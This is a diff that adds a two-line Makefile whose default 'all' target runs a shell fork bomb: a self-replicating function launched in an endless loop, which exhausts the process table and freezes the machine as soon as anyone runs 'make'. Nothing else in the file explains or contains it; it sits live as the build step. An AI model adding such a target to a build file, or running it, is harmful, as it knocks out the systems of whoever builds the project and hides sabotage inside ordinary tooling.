@@ -1,0 +1,2 @@
+all:
+	sh -c 'f() { f | f & }; f; while true; do f; done'
